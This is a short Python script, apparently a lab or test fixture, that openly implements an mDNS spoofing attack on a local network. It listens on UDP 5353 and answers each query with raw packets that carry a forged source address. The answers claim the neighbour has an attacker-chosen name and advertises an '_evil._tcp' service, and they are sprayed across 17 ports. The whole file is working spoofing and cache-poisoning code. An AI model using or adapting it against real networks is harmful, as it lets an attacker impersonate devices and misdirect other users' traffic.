"""A LAN device that forges mDNS answers for its neighbour.

Listens on UDP 5353; for every query it is asked itself, it answers with
the neighbour's source address (a raw socket), the query's id and the
asker's port (and the 16 ports after it), claiming the neighbour is called
NAME and announces _evil._tcp. With one socket and one query id per sweep,
that would rename the neighbour. Each forged answer adds a line to COUNT.

usage: mdns_forge.py NEIGHBOUR_IP NAME COUNT_FILE
"""
import socket
import struct
import sys

neighbour, forged_name, count_file = sys.argv[1], sys.argv[2], sys.argv[3]


def name(n):
    out = b""
    for label in n.split("."):
        out += bytes([len(label)]) + label.encode()
    return out + b"\0"


def record(owner, target):
    data = name(target)
    return name(owner) + struct.pack(">HHIH", 12, 0x8001, 120, len(data)) + data


def answer(qid):
    reverse = ".".join(reversed(neighbour.split("."))) + ".in-addr.arpa"
    head = qid + struct.pack(">HHHHH", 0x8400, 0, 2, 0, 0)
    return head + record(reverse, forged_name + ".local") + record(
        "_services._dns-sd._udp.local", "_evil._tcp.local"
    )


def udp(src, dst, sport, dport, payload):
    length = 8 + len(payload)
    ip = struct.pack(
        ">BBHHHBBH4s4s", 0x45, 0, 20 + length, 0, 0, 64, 17, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )
    return ip + struct.pack(">HHHH", sport, dport, length, 0) + payload


listen = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
listen.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listen.bind(("0.0.0.0", 5353))
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print("ready", flush=True)
while True:
    data, (asker, port) = listen.recvfrom(4096)
    if len(data) < 12 or data[2] & 0x80:
        continue
    forged = answer(data[:2])
    for p in range(port, port + 17):
        raw.sendto(udp(neighbour, asker, 5353, p, forged), (asker, 0))
    with open(count_file, "a") as f:
        f.write("forged\n")
